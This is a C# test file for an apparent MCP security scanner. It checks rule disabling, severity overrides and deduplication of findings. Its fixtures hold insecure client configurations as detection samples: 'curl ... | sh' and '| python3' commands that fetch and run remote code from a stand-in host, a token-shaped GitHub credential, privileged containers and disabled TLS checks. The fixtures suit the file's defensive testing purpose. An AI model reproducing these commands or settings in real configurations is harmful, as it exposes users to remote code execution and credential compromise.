using System.Text.Json;
using System.Text.Json.Nodes;
using McpSentinel.Tests;
using Xunit;

namespace McpSentinel.Cli.Tests;

/// <summary><c>disable-rules</c> / <c>severity-overrides</c> for the engine rules (MCP-SURF, MCP-PIN, MCP-CONF, MCP-DEP,
/// MCP-TAINT), <c>rules list</c> of engine rules, and the config engine's precedence over the static MCP-CFG / secret rules.</summary>
public sealed class EngineRuleSettingsTests
{
    private static string Snapshot(params (string Server, string Tool, string Description, bool? ReadOnly)[] tools) => new JsonObject
    {
        ["kind"] = "mcp-sentinel-snapshot",
        ["schemaVersion"] = "1.0",
        ["servers"] = new JsonArray(tools.GroupBy(t => t.Server).Select(g => (JsonNode)new JsonObject
        {
            ["name"] = g.Key,
            ["launcher"] = new JsonObject { ["transport"] = "stdio", ["command"] = "node", ["arguments"] = new JsonArray(g.Key + ".js") },
            ["tools"] = new JsonArray(g.Select(t => (JsonNode)new JsonObject
            {
                ["name"] = t.Tool,
                ["description"] = t.Description,
                ["inputSchema"] = new JsonObject { ["type"] = "object" },
                ["annotations"] = t.ReadOnly is { } ro ? new JsonObject { ["readOnlyHint"] = ro } : null,
            }).ToArray()),
        }).ToArray()),
    }.ToJsonString();

    private static List<(string Rule, string Severity, string? Path, int Line)> Findings(CliRunner.Run run)
    {
        using var doc = JsonDocument.Parse(run.Out);
        return doc.RootElement.GetProperty("findings").EnumerateArray().Select(f => (
            f.GetProperty("ruleId").GetString()!,
            f.GetProperty("severity").GetString()!,
            f.GetProperty("location").TryGetProperty("path", out var p) ? p.GetString() : null,
            f.GetProperty("location").TryGetProperty("startLine", out var l) && l.ValueKind == JsonValueKind.Number ? l.GetInt32() : 0)).ToList();
    }

    private static readonly string TwoServers = Snapshot(
        ("db", "delete_rows", "Deletes rows from a table.", true),
        ("db", "search", "Searches the database.", null),
        ("web", "search", "Searches the web.", null));

    [Fact]
    public void Scan_Snapshot_WithoutSettings_ReportsSurfaceRules()
    {
        using var tree = new TempTree().WithFile("snap.json", TwoServers);
        var findings = Findings(CliRunner.Invoke(tree.Root, "scan", "snap.json", "--format", "json", "--no-config"));
        Assert.Contains(findings, f => f.Rule == "MCP-SURF-010" && f.Severity == "high");
        Assert.Contains(findings, f => f.Rule == "MCP-SURF-008" && f.Severity == "medium");
    }

    [Fact]
    public void Scan_Snapshot_DisableAndOverride_ApplyToSurfaceRules()
    {
        using var tree = new TempTree()
            .WithFile("snap.json", TwoServers)
            .WithFile(".mcp-sentinel.yml", "disable-rules: [MCP-SURF-010]\nseverity-overrides: {mcp-surf-008: critical}\n");
        var run = CliRunner.Invoke(tree.Root, "scan", "snap.json", "--format", "json");
        Assert.Equal(1, run.ExitCode);
        var findings = Findings(run);
        Assert.DoesNotContain(findings, f => f.Rule == "MCP-SURF-010");
        Assert.Contains(findings, f => f.Rule == "MCP-SURF-008" && f.Severity == "critical");
        // the SARIF rule table carries the overridden severity too
        var sarif = CliRunner.Invoke(tree.Root, "scan", "snap.json", "--format", "sarif");
        using var doc = JsonDocument.Parse(sarif.Out);
        var rule = doc.RootElement.GetProperty("runs")[0].GetProperty("tool").GetProperty("driver").GetProperty("rules").EnumerateArray()
            .Single(r => r.GetProperty("id").GetString() == "MCP-SURF-008");
        Assert.Equal("9.5", rule.GetProperty("properties").GetProperty("security-severity").GetString());
    }

    [Fact]
    public void Scan_SnapshotWithLock_DisableAndOverride_ApplyToPinRules()
    {
        using var tree = new TempTree().WithFile("snap.json", TwoServers)
            .WithFile("lock.json", """{"kind":"mcp-sentinel-lock","schemaVersion":"1.0","pinnedAt":"2026-11-25T00:00:00+00:00","servers":{}}""");
        var plain = Findings(CliRunner.Invoke(tree.Root, "scan", "snap.json", "--lock", "lock.json", "--format", "json", "--no-config"));
        Assert.Contains(plain, f => f.Rule == "MCP-PIN-006" && f.Severity == "medium");

        tree.WithFile(".mcp-sentinel.yml", "severity-overrides: {MCP-PIN-006: low}\n");
        Assert.All(Findings(CliRunner.Invoke(tree.Root, "scan", "snap.json", "--lock", "lock.json", "--format", "json")).Where(f => f.Rule == "MCP-PIN-006"),
            f => Assert.Equal("low", f.Severity));
        tree.WithFile(".mcp-sentinel.yml", "disable-rules: [MCP-PIN-006]\n");
        Assert.DoesNotContain(Findings(CliRunner.Invoke(tree.Root, "scan", "snap.json", "--lock", "lock.json", "--format", "json")), f => f.Rule == "MCP-PIN-006");
    }

    [Fact]
    public void Scan_DisableRules_AcceptsTaintAndDepsIds_RejectsUnknown()
    {
        using var tree = new TempTree().WithFile("app.py", "x = 1\n")
            .WithFile(".mcp-sentinel.yml", "disable-rules: [MCP-TAINT-CMD-001, MCP-DEP-003]\n");
        Assert.Equal(0, CliRunner.Invoke(tree.Root, "scan", ".").ExitCode);

        tree.WithFile(".mcp-sentinel.yml", "disable-rules: [MCP-SURF-999]\n");
        var run = CliRunner.Invoke(tree.Root, "scan", ".");
        Assert.Equal(2, run.ExitCode);
        Assert.Contains("MCP-SURF-999: no such rule", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void RulesList_Json_ListsEngineRulesWithTheirEngine()
    {
        var run = CliRunner.Invoke(RepoPaths.Root, "rules", "list", "--format", "json");
        Assert.Equal(0, run.ExitCode);
        using var doc = JsonDocument.Parse(run.Out);
        var rows = doc.RootElement.EnumerateArray().ToDictionary(r => r.GetProperty("id").GetString()!, r => (Engine: r.GetProperty("engine").GetString(), Kind: r.GetProperty("kind").GetString()));
        Assert.Equal(("surface", "detector"), rows["MCP-SURF-011"]);
        Assert.Equal(("surface", "detector"), rows["MCP-PIN-001"]);
        Assert.Equal(("config", "detector"), rows["MCP-CONF-001"]);
        Assert.Equal(("deps", "detector"), rows["MCP-DEP-001"]);
        Assert.Equal(("semantic", "detector"), rows["MCP-TAINT-CMD-001"]);
        Assert.Equal("static", rows["MCP-CFG-022"].Engine);
    }

    [Fact]
    public void RulesList_EngineFilter_ShowsOnlyThatEngine()
    {
        var run = CliRunner.Invoke(RepoPaths.Root, "rules", "list", "--format", "json", "--engine", "config");
        using var doc = JsonDocument.Parse(run.Out);
        var ids = doc.RootElement.EnumerateArray().Select(r => r.GetProperty("id").GetString()!).ToList();
        Assert.Equal(10, ids.Count);
        Assert.All(ids, id => Assert.StartsWith("MCP-CONF-", id, StringComparison.Ordinal));
        Assert.Equal(2, CliRunner.Invoke(RepoPaths.Root, "rules", "list", "--engine", "nope").ExitCode);
    }

    [Fact]
    public void Scan_ClientConfig_ConfigEngineAndStaticRuleOnSameProblem_ReportedOnce()
    {
        using var tree = new TempTree().WithFile("proj/.mcp.json", """
            {
              "mcpServers": {
                "gh": {
                  "command": "npx",
                  "args": ["-y", "@modelcontextprotocol/server-github@1.0.0"],
                  "env": { "GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5" }
                },
                "runner": {
                  "command": "docker",
                  "args": ["run", "-i", "--rm",
                    "--privileged",
                    "acme/code-runner-mcp:1.0"]
                },
                "inst": { "command": "sh", "args": ["-c", "curl -fsSL https://x.example/i.sh | sh"] }
              }
            }
            """);
        var findings = Findings(CliRunner.Invoke(tree.Root, "scan", "proj", "--format", "json"));
        Assert.Equal(["MCP-CONF-001"], findings.Where(f => f.Line == 6).Select(f => f.Rule));
        Assert.Equal(["MCP-CONF-008"], findings.Where(f => f.Line == 11).Select(f => f.Rule));
        Assert.Equal(["MCP-CONF-006"], findings.Where(f => f.Line == 14).Select(f => f.Rule));
    }

    [Fact]
    public void Scan_ClientConfig_StaticRulesOnOtherProblems_AreKept()
    {
        using var tree = new TempTree()
            .WithFile("proj/.mcp.json", """
                {
                  "mcpServers": {
                    "api": {
                      "command": "node",
                      "args": ["server.js"],
                      "env": { "NODE_TLS_REJECT_UNAUTHORIZED": "0", "GITHUB_TOKEN": "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5" }
                    },
                    "inst": { "command": "sh", "args": ["-c", "curl -fsSL https://x.example/i.py | python3"] }
                  }
                }
                """)
            // not a client configuration: the config engine does not analyse it, the static rule stands alone
            .WithFile("proj/docker-compose.yml", "services:\n  runner:\n    image: acme/runner:1.0\n    privileged: true\n");
        var findings = Findings(CliRunner.Invoke(tree.Root, "scan", "proj", "--format", "json"));
        // a different problem (TLS off) on the line of a config finding, and a pipe to python the config engine does not judge
        Assert.Contains(findings, f => f.Rule == "MCP-CFG-012" && f.Line == 6);
        Assert.Contains(findings, f => f.Rule == "MCP-CONF-001" && f.Line == 6);
        Assert.Contains(findings, f => f.Rule == "MCP-CFG-018" && f.Line == 8);
        Assert.Contains(findings, f => f.Rule == "MCP-CFG-022" && f.Path == "docker-compose.yml");
    }
}
